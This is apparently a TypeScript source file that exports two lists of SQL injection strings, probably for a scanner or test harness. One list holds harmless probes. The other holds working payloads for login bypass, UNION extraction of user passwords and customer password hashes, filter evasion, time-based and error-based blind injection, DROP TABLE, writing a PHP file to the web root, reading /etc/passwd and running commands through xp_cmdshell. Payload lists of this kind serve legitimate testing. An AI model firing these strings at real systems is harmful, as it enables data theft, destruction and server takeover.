/** What is put into a parameter to see whether the database reads it: mostly nothing comes of it. */
export const SQL_PROBES = [
  "'",
  '"',
  "1'",
  "1 AND 1=1",
  "1 AND 1=2",
  "1' AND '1'='1",
  "1 ORDER BY 1--+",
  "1 ORDER BY 9--+",
] as const;

/** What takes data out, or waits to show that it could. */
export const SQL_ATTACKS = [
  "' OR 1=1 --",
  "' OR 'a'='a",
  "admin'--",
  "1' ORDER BY 10-- -",
  "-1 UNION SELECT NULL,NULL,NULL--",
  "-1' UNION SELECT 1,version(),3-- -",
  "1 UNION ALL SELECT username,password FROM users--",
  "1/**/UNION/**/SELECT/**/table_name,2/**/FROM/**/information_schema.tables",
  "1' UnIoN/*!50000SeLeCt*/1,concat(email,0x3a,password_hash),3 FROM customers#",
  "1 AND SLEEP(5)",
  "1' AND (SELECT 1 FROM (SELECT(SLEEP(4)))x)-- -",
  "1; WAITFOR DELAY '0:0:5'--",
  "1' AND pg_sleep(5)--",
  "1 AND extractvalue(1,concat(0x7e,(SELECT database())))",
  "1' AND updatexml(1,concat(0x7e,user()),1)-- -",
  "1'; DROP TABLE sessions;--",
  "1 AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>97",
  "1' INTO OUTFILE '/var/www/html/x.php'-- -",
  "1' UNION SELECT load_file('/etc/passwd'),2,3-- -",
  "1'; EXEC xp_cmdshell('whoami')--",
] as const;
